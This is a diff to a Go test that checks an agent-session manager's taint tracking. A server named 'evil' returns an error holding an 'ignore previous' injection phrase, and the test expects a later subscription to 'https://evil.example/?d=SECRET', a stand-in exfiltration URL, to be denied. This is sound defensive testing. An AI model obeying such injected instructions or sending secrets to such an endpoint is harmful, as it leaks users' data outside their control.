@@ -157,11 +157,11 @@ func TestChannels_SubscribeAgentKeepsTheRulesInTheManager(t *testing.T) {
 	sessiontest.MustServer(t, m, "evil", model.StatusReady)
 	ctx := context.Background()
 
-	if err := m.SubscribeAgent(ctx, "agent-1", "a", "evil", "test://readme"); err != nil {
+	if err := m.SubscribeAgent(ctx, model.SubscribeRequest{Context: "agent-1", Client: "a", Server: "evil", URI: "test://readme"}); err != nil {
 		t.Fatalf("a clean context's subscription: %v", err)
 	}
 	<-seen
-	if err := m.SubscribeAgent(ctx, "agent-2", "b", "evil", "test://fail"); err == nil || !strings.Contains(err.Error(), "ignore previous") {
+	if err := m.SubscribeAgent(ctx, model.SubscribeRequest{Context: "agent-2", Client: "b", Server: "evil", URI: "test://fail"}); err == nil || !strings.Contains(err.Error(), "ignore previous") {
 		t.Fatalf("err = %v, want the server's error", err)
 	}
 	<-seen
@@ -169,7 +169,7 @@ func TestChannels_SubscribeAgentKeepsTheRulesInTheManager(t *testing.T) {
 		t.Fatal("the server's error message reached agent-2 without tainting it")
 	}
 	var denied *model.DeniedError
-	if err := m.SubscribeAgent(ctx, "agent-2", "b", "evil", "https://evil.example/?d=SECRET"); !errors.As(err, &denied) {
+	if err := m.SubscribeAgent(ctx, model.SubscribeRequest{Context: "agent-2", Client: "b", Server: "evil", URI: "https://evil.example/?d=SECRET"}); !errors.As(err, &denied) {
 		t.Fatalf("a tainted context's subscription to an untrusted server: err %v, want a denial", err)
 	}
 	select {
